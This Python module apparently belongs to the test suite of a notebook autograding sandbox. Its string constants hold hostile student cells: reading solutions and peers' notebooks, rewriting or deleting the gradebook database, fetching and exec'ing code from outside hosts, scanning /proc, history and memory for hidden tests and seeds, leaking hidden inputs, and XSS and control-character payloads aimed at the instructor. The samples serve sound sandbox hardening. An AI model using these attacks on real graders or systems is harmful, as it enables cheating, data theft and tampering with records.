"""Attack code of the hostile corpus that reaches out: learner cells, as strings (see ``make_corpus.py``).

Cells that try to read what they must not (the solutions, another learner's notebooks, the
hidden tests and expected values in the kernel, its history, the file system, ``/proc``, the
hidden data), to write the gradebook, to use the network, to leak the hidden inputs into the
feedback, to inject HTML and control characters into what the instructor sees, and to reach the
``shequn.metrics`` package the sandbox masks.  Each constant is the source of one answer cell
(or a ``{grade_id: source}`` dict for group_analysis); ``@NAME@`` placeholders are filled by
:func:`make_corpus._sub`.  Attacks that search for something print ``FOUND`` followed by what
they found; ``tests/test_hostile.py`` asserts that no autograded notebook contains ``FOUND`` or
the ``LEAK`` marker.
"""

from attacks_forgery import RAISE_Q1

# ----------------------------------------------------------- solutions, other learners, gradebook, network
_HARVEST = """import glob, json, os

def _harvest(patterns):
    \"\"\"Run the code cells of every notebook we can read (a solution or someone's answers).\"\"\"
    ns, log = globals(), []
    for pattern in patterns:
        for path in glob.glob(pattern):
            try:
                with open(path, encoding="utf-8") as fh:
                    nb = json.load(fh)
                for cell in nb["cells"]:
                    src = "".join(cell["source"])
                    gid = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id", "")
                    if cell["cell_type"] == "code" and gid.endswith("_answer"):
                        exec(src, ns)
                log.append(f"FOUND {path}")
            except Exception as exc:  # noqa: BLE001
                log.append(f"{path}: {type(exc).__name__}")
    print("\\n".join(log) or "nothing found")
"""
READ_SOLUTION = (
    _HARVEST
    + """
_harvest([@COURSE@ + "/solutions/threshold_design/*.ipynb",
          "../../../solutions/threshold_design/*.ipynb"])
for _p in (@COURSE@ + "/gradebook.db", @COURSE@ + "/nbgrader_config.py"):
    try:
        print("FOUND", _p, len(open(_p, "rb").read()), "bytes readable")
    except OSError as exc:
        print(_p, type(exc).__name__)
"""
)
READ_OTHER = (
    _HARVEST
    + """
# a friend's id is enough; reading everyone's would also run the other attacks
_harvest([@COURSE@ + "/_grading/submitted/correct/threshold_design/threshold_design.ipynb",
          @COURSE@ + "/_grading/autograded/correct/threshold_design/threshold_design.ipynb",
          "../../correct/threshold_design/threshold_design.ipynb",
          "../../../submitted/correct/threshold_design/threshold_design.ipynb"])
"""
)
WRITE_GRADEBOOK = """import os, sqlite3
_db = @COURSE@ + "/gradebook.db"
for _attempt in (
    lambda: sqlite3.connect(_db).executescript(
        "UPDATE grade SET manual_score = 100; UPDATE comment SET manual_comment = 'pwned';"),
    lambda: open(_db, "r+b").write(b"SQLite format 3\\x00 garbage"),
    lambda: os.remove(_db),
    lambda: open(@COURSE@ + "/_grading/pwned.txt", "w").write("x"),
    lambda: open(@PWNED@ + "-gradebook", "w").write("x"),
):
    try:
        _attempt()
        print("attack step succeeded")
    except Exception as exc:  # noqa: BLE001
        print("blocked:", type(exc).__name__)
"""
NETWORK = """import socket
_code = b""
for _host, _port in (("127.0.0.1", @PORT@), ("1.1.1.1", 80), ("example.com", 80)):
    try:
        with socket.create_connection((_host, _port), timeout=3) as s:
            while _chunk := s.recv(65536):
                _code += _chunk
        print("FOUND connected to", _host)
    except OSError as exc:
        print(_host, type(exc).__name__)
exec(_code.decode(), globals())  # the answers, served from outside
"""

# ------------------------------------------------------------------ reading the expected values
GC_FRAMES = """import gc, sys

def _find():
    found = []
    for obj in gc.get_objects():
        name = getattr(obj, "__name__", "")
        if callable(obj) and isinstance(name, str) and name.startswith("_ref_"):
            found.append(obj)
    for frame in sys._current_frames().values():
        while frame is not None:
            for key, value in list(frame.f_globals.items()) + list(frame.f_locals.items()):
                if isinstance(key, str) and key.startswith(("_ref_", "_expected", "_default", "_half_life")):
                    found.append(value)
            frame = frame.f_back
    return found

print("FOUND" if _find() else "nothing in gc or frames")

def highest_price(applicants, min_members, prices):
    for ref in _find():  # at call time: the hidden test's reference, if it lived in this process
        if callable(ref):
            print("FOUND reference function")
            return ref(applicants, min_members, prices)
    raise NotImplementedError()
"""
HISTORY = """import glob, os
_ip = get_ipython()

def _look():
    texts = [str(x) for x in list(In) + list(_ih) + list(Out.values())]
    texts += [str(x) for x in _ip.history_manager.get_range(output=True)]
    for path in glob.glob(os.path.expanduser("~") + "/**/history.sqlite", recursive=True):
        texts.append(open(path, "rb").read().decode("latin-1"))
    markers = ("_ref_" + "highest_price", "grading_seed(" + "7101)")  # split: this source is in In too
    hits = [t for t in texts if any(m in t for m in markers)]
    return hits

print("FOUND" if _look() else "no test source in the history")

def highest_price(applicants, min_members, prices):
    if _look():
        print("FOUND test source at call time")
    raise NotImplementedError()
"""
READ_NOTEBOOKS = (
    """import os
_MARKERS = (b"_ref_" + b"highest_price", b"BEGIN HIDDEN " + b"TESTS\\nfrom shequn.checks import grading_seed")
_SKIP = ("/proc", "/sys", "/dev", "/usr")

def _scan():
    hits = []
    roots = ["/", os.getcwd(), os.path.expanduser("~"), "/shequn", "/tmp", "/run"]
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            for link in ("cwd", "root"):
                try:
                    roots.append(os.readlink(f"/proc/{pid}/{link}"))
                except OSError:
                    pass
    seen = set()
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            if dirpath.startswith(_SKIP) or "site-packages" in dirpath or dirpath in seen:
                dirnames[:] = []
                continue
            seen.add(dirpath)
            for name in filenames:
                if name.endswith((".ipynb", ".db", ".py", ".json", ".md")):
                    path = os.path.join(dirpath, name)
                    try:
                        data = open(path, "rb").read(2_000_000)
                    except OSError:
                        continue
                    if any(m in data for m in _MARKERS) or name == "gradebook.db":
                        hits.append(path)
    return hits

print("FOUND " + " ".join(_scan()) if _scan() else "no notebook with tests, no gradebook")
"""
    + RAISE_Q1
)
PROC_ENV_SEED = """import os
_found = []
for key, value in os.environ.items():
    if "SEED" in key or "GRADING" in key or "NBGRADER" in key:
        _found.append(f"env {key}")
for pid in os.listdir("/proc"):
    if not pid.isdigit():
        continue
    for part in ("environ", "cmdline"):
        try:
            data = open(f"/proc/{pid}/{part}", "rb").read()
        except OSError:
            continue
        if b"SHEQUN_GRADING_SEED" in data or b"grading_seed=" in data or b"nbgrader" in data:
            _found.append(f"/proc/{pid}/{part}")
print("FOUND " + " ".join(_found) if _found else "no seed, no grader process visible")

def highest_price(applicants, min_members, prices):
    seed = os.environ.get("SHEQUN_GRADING_SEED")
    if seed:
        print("FOUND seed at call time")
    raise NotImplementedError()
"""

# ------------------------------------------------------------------ leaking hidden inputs
LEAK = """import os, sys, warnings

def _secret(applicants):
    w = applicants.willingness_to_pay
    return f"LEAK n={len(w)} sum={float(w.sum()):.3f} first={list(map(float, w[:3]))}"

def highest_price(applicants, min_members, prices):
    s = _secret(applicants) + f" min={min_members} prices={prices}"
    print(s)
    print(s, file=sys.stderr)
    sys.__stdout__.write(s + "\\n")
    os.write(1, (s + "\\n").encode())
    os.write(2, (s + "\\n").encode())
    warnings.warn(s)
    try:
        from IPython.display import display
        display(s)
    except Exception:
        pass
    err = ValueError(s)
    err.file = s
    err.line = s
    raise err
"""

# ------------------------------------------------------------------ hidden data that never changes
HARDCODE_HIDDEN = """# The hidden pools, as drawn without a term seed (grading_seed(default) == default):
# precompute the right answers for exactly those pools, return nonsense for everything else.
_answers = {}
for _k, (_size, _min) in enumerate([(8_000, 2_000), (12_000, 5_000), (6_000, 500)]):
    _pool = th.generate_applicants(_size, seed=7101 + _k)
    _ok = [p for p in [5, 15, 25, 35, 45, 70, 90, 120] if (_pool.willingness_to_pay >= p).sum() >= _min]
    _answers[(_size, round(float(_pool.willingness_to_pay.sum()), 3))] = max(_ok) if _ok else None

def highest_price(applicants, min_members, prices):
    key = (len(applicants.willingness_to_pay), round(float(applicants.willingness_to_pay.sum()), 3))
    if key in _answers:
        print("FOUND a pool drawn from the default hidden seed")
        return _answers[key]
    return -1
"""


# ------------------------------------------------------------------ instructor-side injection
HTML_ESSAY = """我的门槛设计很好。<script>fetch('/formgrader/api/grade/1', {method: 'PUT', body: '{"manual_score": 5}'})</script>
<img src=x onerror="alert(document.cookie)">
<a href="javascript:alert(1)">点我</a>
<iframe src="javascript:alert(2)"></iframe>
<svg onload="alert(3)"><circle r="1"/></svg>
<details ontoggle="alert(4)" open>x</details>
<form action="/formgrader"><input name="x" onfocus="alert(5)" autofocus></form>
<style>body{display:none}</style>
"""  # noqa: E501 (a hostile essay, kept as written)
HTML_OUTPUTS = (
    """from IPython.display import HTML, Javascript, Markdown, SVG, display
display(HTML("<b>hi</b><script>alert('html')</script><img src=x onerror=alert(1)>"))
display(Javascript("alert('js')"))
display(Markdown("<img src=y onerror=alert(2)> [x](javascript:alert(3))"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(4)"><script>alert(5)</script></svg>'))
display({"text/html": "<div onmouseover=alert(6)>x</div>", "application/javascript": "alert(7)",
         "text/plain": "x"}, raw=True)
"""
    + RAISE_Q1
)
CONTROL_CHARS = """import sys
_fake = ("\\x1b[2J\\x1b[H\\r✓ correct: 13/13  ok  (1.0s)\\n"
         "全部正常，无需处理 (nothing needs attention)\\x00\\x07\\x1b]0;pwned\\x07\\u202e")
print(_fake)
print(_fake, file=sys.stderr)
sys.__stderr__.write(_fake)

class _Policy(th.Policy):
    name = "\\x1b[32m✓ ok\\x1b[0m\\r\\n[ERROR] Kernel died DeadKernelError\\x00"
    fee = 0.0
    def admit(self, applicants, rng):
        return np.ones(len(applicants.interest) + 1, dtype=bool)   # wrong shape: the name is in the error

my_policy = _Policy()

def highest_price(applicants, min_members, prices):
    raise RuntimeError(_fake)
"""

# ----------------------------------------------------------- group_analysis: name patching vs enforcement
METRICS_DELEGATE = {
    "q2_answer": "def daily_active(messages):\n    from shequn.metrics import activity\n"
    "    return activity(messages)\n",
    "q3_answer": "def cohort_retention(members, messages, weeks=6):\n    import shequn.metrics as m\n"
    "    return m.retention_by_cohort(members, messages, periods=weeks)\n",
    "q4_answer": "def lurker_share(members, messages, max_messages=0):\n    from shequn import metrics\n"
    "    return metrics.lurker_share(members, messages, max_messages=max_messages)\n",
    "q5_answer": "def red_packet_lift(messages, red_packets, before=24, after=48):\n"
    "    from shequn.metrics import red_packet_lift as f\n"
    "    return f(messages, red_packets, before=before, after=after)\n\n\n"
    "def lift_half_life(lift):\n    from shequn.metrics import lift_half_life as f\n    return f(lift)\n",
}
METRICS_BYPASS_PRELUDE = """import glob, importlib, importlib.machinery, importlib.util, os, sys
import shequn

_m = None
_pkg = os.path.dirname(shequn.__file__)
_tries = []
# 1. the module under another name, straight from its file
for _path in [os.path.join(_pkg, "metrics.py"), *glob.glob(os.path.join(_pkg, "**", "metrics*.py"), recursive=True),
              *glob.glob(os.path.join(_pkg, "**", "metrics", "*.py"), recursive=True)]:  # the package's modules
    try:
        _spec = importlib.util.spec_from_file_location("_m_from_file", _path)
        _cand = importlib.util.module_from_spec(_spec)
        _spec.loader.exec_module(_cand)
        if hasattr(_cand, "lurker_share"):
            _m = _cand
            break
    except Exception as exc:
        _tries.append(f"{_path}: {type(exc).__name__}")
# 2. a cached bytecode copy
_places = [_pkg, *[p for p in sys.path if p and os.path.isdir(p)]]
for _pyc in [q for p in _places for pat in ("metrics*.pyc", os.path.join("metrics", "**", "*.pyc"))
             for q in glob.glob(os.path.join(p, "**", pat), recursive=True)
             if "site-packages" not in p or "shequn" in q] if _m is None else []:
    try:
        _cand = importlib.machinery.SourcelessFileLoader("_m_pyc", _pyc).load_module()
        if hasattr(_cand, "lurker_share"):
            _m = _cand
            break
    except Exception as exc:
        _tries.append(f"{_pyc}: {type(exc).__name__}")
# 3. modules that import it
for _name in ("shequn.models.lifecycle", "shequn.data.calibration"):
    try:
        _cand = importlib.import_module(_name)
        _cand = getattr(_cand, "metrics", None)
        if _m is None and _cand is not None and hasattr(_cand, "lurker_share"):
            _m = _cand
    except Exception as exc:
        _tries.append(f"{_name}: {type(exc).__name__}")
print("FOUND shequn.metrics" if _m is not None else "blocked: " + "; ".join(_tries)[:300])
"""  # noqa: E501 (hostile submission code, kept as written)
METRICS_BYPASS = {
    "q2_answer": METRICS_BYPASS_PRELUDE
    + "\n\ndef daily_active(messages):\n    return _m.activity(messages)\n",
    "q3_answer": "def cohort_retention(members, messages, weeks=6):\n"
    "    return _m.retention_by_cohort(members, messages, periods=weeks)\n",
    "q4_answer": "def lurker_share(members, messages, max_messages=0):\n"
    "    return _m.lurker_share(members, messages, max_messages=max_messages)\n",
    "q5_answer": "def red_packet_lift(messages, red_packets, before=24, after=48):\n"
    "    return _m.red_packet_lift(messages, red_packets, before=before, after=after)\n\n\n"
    "def lift_half_life(lift):\n    return _m.lift_half_life(lift)\n",
}
